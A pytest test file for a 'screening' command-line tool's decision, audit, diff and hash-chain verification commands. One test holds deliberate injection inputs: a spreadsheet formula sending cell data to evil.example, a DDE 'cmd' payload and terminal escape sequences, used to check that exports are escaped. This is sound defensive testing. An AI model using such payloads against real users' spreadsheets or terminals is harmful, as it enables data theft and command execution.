"""`screening decide`, `screening audit list|export|verify` and `screening diff`, as a user runs them."""

import csv
import io
import json
import subprocess
import sys

import pytest
import yaml
from conftest import EXAMPLES, ROOT
from store_support import TODAY, drop_append_only_guards, raw_sql, store_url  # noqa: F401 (fixture)

from screening import screen
from screening.cli.commands import main

BP = "cardiovascular.blood-pressure-140-90-mdma"


@pytest.fixture
def reports(tmp_path):
    old = screen(yaml.safe_load((EXAMPLES / "duo-mdma.yaml").read_text()), today=TODAY)
    intake = yaml.safe_load((EXAMPLES / "duo-mdma.yaml").read_text())
    intake["participants"][1]["physical"]["systolic_bp"] = 160
    new = screen(intake, today=TODAY)
    (tmp_path / "old.json").write_text(old.to_json())
    (tmp_path / "new.json").write_text(new.to_json())
    return tmp_path / "old.json", tmp_path / "new.json", old


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_decide_list_export_and_verify(capsys, reports, store_url):
    old_file, _, old = reports
    code, out, err = run(
        capsys,
        "decide",
        old_file,
        "--flag",
        BP,
        "--outcome",
        "overridden",
        "--reason",
        "addressed-in-the-session-plan",
        "--reviewer",
        "dr.kim",
        "--store",
        store_url,
    )
    assert code == 0, err
    first = json.loads(out)
    assert (first["seq"], first["participant"], first["reason_display"]) == (1, "B", "Addressed in the session plan")
    code, out, err = run(
        capsys,
        "decide",
        old_file,
        "--flag",
        "setting.one-facilitator-for-duo",
        "--participant",
        "A",
        "--outcome",
        "addressed",
        "--note",
        "second facilitator booked",
        "--reviewer",
        "dr.kim",
        "--store",
        store_url,
    )
    assert code == 0, err
    code, out, _ = run(capsys, "audit", "list", "--store", store_url)
    assert code == 0 and len(out.splitlines()) == 2
    assert f"report {old.report_id[:12]} {BP} [B] overridden (Addressed in the session plan) by dr.kim" in out
    code, out, _ = run(capsys, "audit", "export", "--format", "json", "--report", old.report_id, "--store", store_url)
    exported = json.loads(out)
    assert [r["outcome"] for r in exported] == ["overridden", "addressed"] and exported[1]["note"] == "second facilitator booked"
    code, out, _ = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["seq"] for r in rows] == ["1", "2"] and rows[0]["record_hash"] == exported[0]["record_hash"]
    code, out, _ = run(capsys, "audit", "list", "--report", old.report_id, "--view", "A", "--store", store_url)
    assert "setting.one-facilitator-for-duo [A]" in out and BP not in out
    code, out, _ = run(capsys, "audit", "verify", "--store", store_url)
    assert code == 0 and out.startswith(
        "2 decision records and 1 reports, chain intact; head " + exported[1]["record_hash"] + ":"
    )


def test_verify_exits_1_naming_the_edited_record(capsys, reports, store_url):
    old_file, _, _ = reports
    for flag, who in ((BP, "B"), ("setting.one-facilitator-for-duo", "A")):
        assert (
            run(
                capsys,
                "decide",
                old_file,
                "--flag",
                flag,
                "--participant",
                who,
                "--outcome",
                "noted",
                "--reviewer",
                "dr.kim",
                "--store",
                store_url,
            )[0]
            == 0
        )
    drop_append_only_guards(store_url)
    record = raw_sql(store_url, ["SELECT record FROM screening_decisions WHERE seq = 1"])[0][0][0]
    raw_sql(store_url, ["UPDATE screening_decisions SET record = '{}' WHERE seq = 1".format(record.replace("dr.kim", "dr.who"))])
    code, out, err = run(capsys, "audit", "verify", "--store", store_url)
    assert code == 1 and "NOT intact" in out and "record 1: its content does not match its hash (edited)" in err


def test_a_malformed_row_is_not_intact_and_list_and_export_go_on_past_it(capsys, reports, store_url):
    """Issue 27, 2: exit 1 "record N: not readable", no traceback, nothing stored quoted; list/export skip it and say so."""
    old_file, _, _ = reports
    for flag, who in ((BP, "B"), ("setting.one-facilitator-for-duo", "A")):
        argv = ["decide", old_file, "--flag", flag, "--participant", who, "--outcome", "noted", "--reviewer", "dr.kim"]
        assert run(capsys, *argv, "--store", store_url)[0] == 0
    drop_append_only_guards(store_url)
    raw_sql(store_url, ["UPDATE screening_decisions SET record = '[\"ZZSECRET\"]' WHERE seq = 1"])
    code, out, err = run(capsys, "audit", "verify", "--store", store_url)
    assert code == 1 and "NOT intact" in out and "record 1: not readable" in err
    assert "Traceback" not in err and "ZZSECRET" not in out + err
    code, out, err = run(capsys, "audit", "list", "--store", store_url)
    assert code == 0 and len(out.splitlines()) == 1 and "record 1: not readable; skipped" in err
    code, out, err = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
    assert code == 0 and len(out.splitlines()) == 2 and "record 1: not readable; skipped" in err


@pytest.mark.parametrize(
    "argv, message",
    [
        (["--flag", "no.such-rule", "--outcome", "noted", "--reviewer", "dr.kim"], "rule_id: report"),
        (
            ["--flag", BP, "--outcome", "overridden", "--reason", "felt-fine", "--reviewer", "dr.kim"],
            "reason: not one of the override reasons",
        ),
        (["--flag", BP, "--outcome", "overridden", "--reason", "other", "--reviewer", "dr.kim"], "reason_text"),
        (["--flag", BP, "--outcome", "noted", "--reviewer", ""], "reviewer"),
        (["--flag", "setting.one-facilitator-for-duo", "--outcome", "noted", "--reviewer", "dr.kim"], "--participant"),
    ],
)
def test_a_decision_that_does_not_fit_exits_2_naming_the_field_and_writes_nothing(capsys, reports, tmp_path, argv, message):
    store = tmp_path / "s.sqlite"
    code, out, err = run(capsys, "decide", reports[0], *argv, "--store", store)
    assert code == 2 and out == "" and message in err and "Traceback" not in err
    assert run(capsys, "audit", "verify", "--store", store)[1].startswith("0 decision records")


def test_an_edited_report_file_is_refused(capsys, reports, tmp_path):
    data = json.loads(reports[0].read_text())
    data["flags"][0]["severity"] = "info"
    (tmp_path / "edited.json").write_text(json.dumps(data))
    code, _, err = run(
        capsys,
        "decide",
        tmp_path / "edited.json",
        "--flag",
        BP,
        "--outcome",
        "noted",
        "--reviewer",
        "dr.kim",
        "--store",
        tmp_path / "s.sqlite",
    )
    assert code == 2 and "does not match its report_id" in err
    (tmp_path / "junk.json").write_text("{}")
    code, _, err = run(capsys, "diff", tmp_path / "junk.json", reports[1])
    assert code == 2 and "not a screening report" in err


def test_diff_shows_what_changed_and_what_was_decided_earlier(capsys, reports, store_url):
    old_file, new_file, _ = reports
    for flag, who in ((BP, "B"), ("setting.one-facilitator-for-duo", "A")):
        run(
            capsys,
            "decide",
            old_file,
            "--flag",
            flag,
            "--participant",
            who,
            "--outcome",
            "noted",
            "--reviewer",
            "dr.kim",
            "--store",
            store_url,
        )
    code, out, err = run(capsys, "diff", old_file, new_file, "--store", store_url)
    assert code == 0, err
    assert (
        f"CHANGED   [critical] MDMA: blood pressure at or above 140/90 mmHg (participant B; {BP}): evidence changed; "
        "re-opened (was noted by dr.kim"
    ) in out
    assert (
        "unchanged [warning] Fewer than two sober facilitators for a duo (the session plan; setting.one-facilitator-for-duo): "
        "decided earlier, noted by dr.kim on "
    ) in out
    code, out, _ = run(capsys, "diff", old_file, new_file, "--store", store_url, "--format", "json")
    flags = {(f["rule_id"], f["participant"]): f for f in json.loads(out)["flags"]}
    assert flags[(BP, "B")]["status"] == "changed" and flags[(BP, "B")]["decided_earlier"] is None
    assert flags[("setting.one-facilitator-for-duo", "session")]["decided_earlier"]["outcome"] == "noted"


def test_the_commands_run_as_a_real_process(tmp_path):
    report = tmp_path / "r.json"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "screening",
            "screen",
            str(EXAMPLES / "duo-mdma.yaml"),
            "--format",
            "json",
            "--today",
            "2026-11-20",
        ],
        stdout=report.open("w"),
        check=True,
        cwd=tmp_path,
        timeout=120,
    )
    decide = subprocess.run(
        [sys.executable, "-m", "screening", "decide", str(report), "--flag", BP, "--outcome", "noted", "--reviewer", "dr.kim"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=120,
    )
    assert decide.returncode == 0, decide.stderr
    assert (tmp_path / "screening-decisions.sqlite").exists()  # the default store: a file where it runs
    verify = subprocess.run(
        [sys.executable, "-m", "screening", "audit", "verify"], capture_output=True, text=True, cwd=tmp_path, timeout=120
    )
    assert verify.returncode == 0 and "1 decision records and 1 reports, chain intact" in verify.stdout


def test_the_core_never_imports_the_store_and_a_missing_extra_says_what_to_install(tmp_path):
    check = (
        "import sys, screening, screening.cli.commands; from screening.cli.commands import main; "
        "main(['screen', sys.argv[1], '--format', 'json']); "
        "assert not [m for m in sys.modules if m.startswith(('sqlalchemy', 'psycopg', 'screening.decisions.store'))], 'store imported'"
    )
    result = subprocess.run(
        [sys.executable, "-c", check, str(EXAMPLES / "duo-mdma.yaml")], capture_output=True, text=True, cwd=ROOT, timeout=120
    )
    assert result.returncode == 0, result.stderr
    blocked = (
        "import sys; sys.modules['sqlalchemy'] = None; from screening.cli.commands import main; sys.exit(main(['audit', 'list']))"
    )
    result = subprocess.run([sys.executable, "-c", blocked], capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert result.returncode == 2 and "pip install 'screening[store]'" in result.stderr and "Traceback" not in result.stderr


HOSTILE_REVIEWER = "@SUM(1+1)\x1b[2J\x1b]0;owned\x07\rDr Evil\u202e"


def test_stored_text_is_escaped_for_the_terminal_and_for_a_spreadsheet(capsys, reports, store_url):
    """Issue 27, 3 and 4: a reviewer's name and reason text reach neither a terminal raw nor a
    spreadsheet as a formula (OWASP: a cell starting with = + - @ TAB or CR gets an apostrophe)."""
    old_file, new_file, _ = reports
    argv = ["decide", old_file, "--flag", "setting.one-facilitator-for-duo", "--participant", "A"]
    code, _, err = run(
        capsys,
        *argv,
        "--outcome",
        "overridden",
        "--reason",
        "other",
        "--reason-text",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "--note",
        "+cmd|' /C calc'!A0",
        "--reviewer",
        HOSTILE_REVIEWER,
        "--store",
        store_url,
    )
    assert code == 0, err
    for command in (["audit", "list"], ["diff", old_file, new_file]):
        code, out, _ = run(capsys, *command, "--store", store_url)
        assert code == 0 and out
        assert not any(c in out for c in "\x1b\x07\r\u202e"), command
        assert "\\x1b[2J" in out and "\\u202e" in out
    code, out, _ = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert row["reviewer"].startswith("'@") and row["reason_text"].startswith("'=") and row["note"].startswith("'+")
    assert row["reason_display"].startswith("'=")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed(cell):
    from screening.cli.audit import csv_cell

    assert csv_cell(cell) == "'" + cell and csv_cell("dr.kim") == "dr.kim" and csv_cell(3) == 3


def test_audit_view_finds_the_report_a_printed_copy_belongs_to(capsys, reports, store_url):
    """The view id on a participant's copy leads back to the clinician's report (issue 29)."""
    old_file, new_file, old = reports
    for path in (old_file, new_file):
        code, _, err = run(
            capsys, "decide", path, "--flag", BP, "--outcome", "noted", "--reviewer", "dr.kim", "--store", store_url
        )
        assert code == 0, err
    new = json.loads(new_file.read_text())
    code, out, err = run(capsys, "audit", "view", old.view_for("B").view_id, "--store", store_url)
    assert code == 0, err
    assert out == f"view {old.view_for('B').view_id[:12]} is participant B's copy of report {old.report_id}\n"
    # A's copy did not change when only B's answers did: it belongs to both reports, oldest first
    code, out, _ = run(capsys, "audit", "view", old.view_for("A").view_id, "--store", store_url)
    assert code == 0 and [line.rsplit(" ", 1)[1] for line in out.splitlines()] == [old.report_id, new["report_id"]]
    code, out, err = run(capsys, "audit", "view", "ab" * 32, "--store", store_url)
    assert code == 1 and out == "" and "no stored report lists view abababababab" in err
